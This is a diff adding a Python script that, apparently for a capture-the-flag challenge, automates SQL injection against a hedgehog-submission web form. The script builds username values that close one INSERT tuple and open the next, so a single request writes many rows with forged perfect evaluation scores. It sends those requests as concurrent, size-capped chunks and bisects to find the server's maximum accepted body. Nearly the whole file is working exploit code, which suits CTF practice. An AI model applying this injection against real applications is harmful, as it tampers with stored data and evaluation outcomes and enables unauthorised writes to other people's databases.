@@ -0,0 +1,186 @@
+"""
+Bulk version of hedgehog.py.
+
+hedgehog.py grows one username with += and sends all 1000 rows in a single
+POST. Here the rows are streamed as tuples and joined once per request. They
+are split into chunks whose form-encoded body stays under a size cap, and the
+chunks are sent concurrently through the shared Oracle client. Each chunk
+is an insert, so it goes with idempotent=False: it is resent only when it
+cannot have reached the server, never after a timeout or a 5xx.
+
+Every chunk is its own injected INSERT. All rows except the last are written
+into the username, and the last row's values go in the normal form fields.
+No row gets the dummy 1/1/.../0 values that hedgehog.py's final row did.
+
+--probe finds the largest body the server accepts. It doubles the rows per
+request until a request fails, then bisects. Note that probing inserts rows,
+so run it against mock_server.py first.
+
+Usage:
+    python bulk_inject.py --rows 1000
+    python bulk_inject.py --url http://127.0.0.1:5000/add_hedgehog --rows 200000 --max-body 400000
+    python bulk_inject.py --url http://127.0.0.1:5000/add_hedgehog --probe
+"""
+
+import argparse
+import os
+import time
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from urllib.parse import quote_plus, urlencode
+
+import requests
+
+from sg_ai_ctf_25.oracle import Oracle
+
+# --- Configuration ---
+URL = os.environ.get("HEDGEHOG_URL", "https://best-hedgehog.aictf.sg/add_hedgehog")
+FIELDS = ["furriness", "cuteness", "friendliness", "curiosity", "agility", "sleepiness",
+          "evaluation_score"]
+JAGA_ROW = (45, 50, 40, 35, 48, 42, 100)   # Jaga-like stats with a perfect score
+NUM_ROWS = 1000
+MAX_BODY_BYTES = 400_000   # well under common proxy caps (nginx defaults to 1 MB)
+WORKERS = 8
+REQUEST_TIMEOUT = 60
+RETRIES = 3
+PROBE_MAX_ROWS = 1 << 20
+
+
+def make_oracle(workers=WORKERS):
+    return Oracle(max_concurrency=workers, pool_size=workers, retries=RETRIES,
+                  timeout=REQUEST_TIMEOUT)
+
+
+def iter_rows(count, start=0, values=JAGA_ROW):
+    """(name, *values) tuples; names are just the row numbers, as in hedgehog.py."""
+    for i in range(start, start + count):
+        yield (str(i), *values)
+
+
+def middle_fragment(row):
+    """A row written inside the username: closes its own tuple and opens the next."""
+    return f"{row[0]}',{','.join(map(str, row[1:]))}), ('"
+
+
+def middle_cost(row):
+    return len(quote_plus(middle_fragment(row)))
+
+
+def trailer_cost(row):
+    """Encoded bytes of a chunk's last row: its name plus all the numeric fields."""
+    return len(urlencode({"username": row[0], **dict(zip(FIELDS, row[1:]))}))
+
+
+def encode_chunk(rows):
+    """Form fields for one request inserting all of rows."""
+    *middle, last = rows
+    username = "".join(map(middle_fragment, middle)) + last[0]
+    return {"username": username, **dict(zip(FIELDS, last[1:]))}
+
+
+def iter_chunks(rows, max_body_bytes=MAX_BODY_BYTES):
+    """
+    Groups rows so that each chunk's encoded body is at most max_body_bytes.
+    Only sizes are tracked while streaming; the strings are built per chunk.
+    """
+    chunk, used = [], 0   # used = encoded bytes of every row in chunk except the last
+    for row in rows:
+        if trailer_cost(row) > max_body_bytes:
+            raise ValueError(f"max body of {max_body_bytes} bytes is too small for a single row")
+        if chunk and used + middle_cost(chunk[-1]) + trailer_cost(row) > max_body_bytes:
+            yield chunk
+            chunk, used = [], 0
+        if chunk:
+            used += middle_cost(chunk[-1])
+        chunk.append(row)
+    if chunk:
+        yield chunk
+
+
+def post_chunk(oracle, url, rows):
+    fields = encode_chunk(rows)
+    body = urlencode(fields)
+    start = time.perf_counter()
+    try:
+        # resending an insert that reached the server would duplicate its rows
+        res = oracle.post(url, idempotent=False, data=body,
+                          headers={"Content-Type": "application/x-www-form-urlencoded"})
+        ok, status = res.ok, res.status_code
+        message = res.json().get("message", "") if "json" in res.headers.get("Content-Type", "") else res.text[:200]
+    except requests.RequestException as e:
+        ok, status, message = False, None, str(e)
+    return {"ok": ok, "status": status, "rows": len(rows), "bytes": len(body),
+            "seconds": time.perf_counter() - start, "message": message}
+
+
+def send_rows(url, rows, max_body_bytes=MAX_BODY_BYTES, workers=WORKERS, oracle=None):
+    """Sends all rows in size-bounded chunks, `workers` requests at a time."""
+    oracle = oracle or make_oracle(workers)
+    results = []
+    start = time.perf_counter()
+    with ThreadPoolExecutor(max_workers=workers) as pool:
+        futures = [pool.submit(post_chunk, oracle, url, chunk)
+                   for chunk in iter_chunks(rows, max_body_bytes)]
+        for future in as_completed(futures):
+            result = future.result()
+            results.append(result)
+            if not result["ok"]:
+                print(f"[!] {result['rows']} rows rejected ({result['status']}): {result['message']}")
+    elapsed = time.perf_counter() - start
+
+    sent = sum(r["rows"] for r in results if r["ok"])
+    print(f"{sent}/{sum(r['rows'] for r in results)} rows accepted in {len(results)} requests, "
+          f"{elapsed:.2f}s ({sent / max(elapsed, 1e-9):.0f} rows/s), "
+          f"largest body {max((r['bytes'] for r in results), default=0)} bytes")
+    if results:
+        print(f"Last server message: {results[-1]['message']}")
+    return results
+
+
+def probe_limits(url, oracle=None, max_rows=PROBE_MAX_ROWS):
+    """Largest rows-per-request (and its body size) the server accepts."""
+    oracle = oracle or make_oracle(1)
+    counter = iter(range(10 ** 9))
+    largest_body = {}
+
+    def accepted(n):
+        # Fresh row names each time so probe rows never collide
+        rows = list(iter_rows(n, start=next(counter) * max_rows))
+        result = post_chunk(oracle, url, rows)
+        print(f"  {n:>8} rows, {result['bytes']:>10} bytes -> {result['status']}")
+        if result["ok"]:
+            largest_body[n] = result["bytes"]
+        return result["ok"]
+
+    good, bad, n = 0, None, 1
+    while n <= max_rows:
+        if not accepted(n):
+            bad = n
+            break
+        good, n = n, n * 2
+    if bad is None:
+        print(f"No limit found up to {good} rows per request.")
+        return good, largest_body.get(good, 0)
+
+    while bad - good > 1:
+        mid = (good + bad) // 2
+        if accepted(mid):
+            good = mid
+        else:
+            bad = mid
+    print(f"Limit: {good} rows per request ({largest_body.get(good, 0)} bytes); {bad} rows is rejected.")
+    return good, largest_body.get(good, 0)
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Chunked, concurrent hedgehog injection")
+    parser.add_argument("--url", default=URL)
+    parser.add_argument("--rows", type=int, default=NUM_ROWS)
+    parser.add_argument("--max-body", type=int, default=MAX_BODY_BYTES)
+    parser.add_argument("--workers", type=int, default=WORKERS)
+    parser.add_argument("--probe", action="store_true", help="find the server's request size limit")
+    args = parser.parse_args()
+
+    if args.probe:
+        probe_limits(args.url)
+    else:
+        send_rows(args.url, iter_rows(args.rows), args.max_body, args.workers)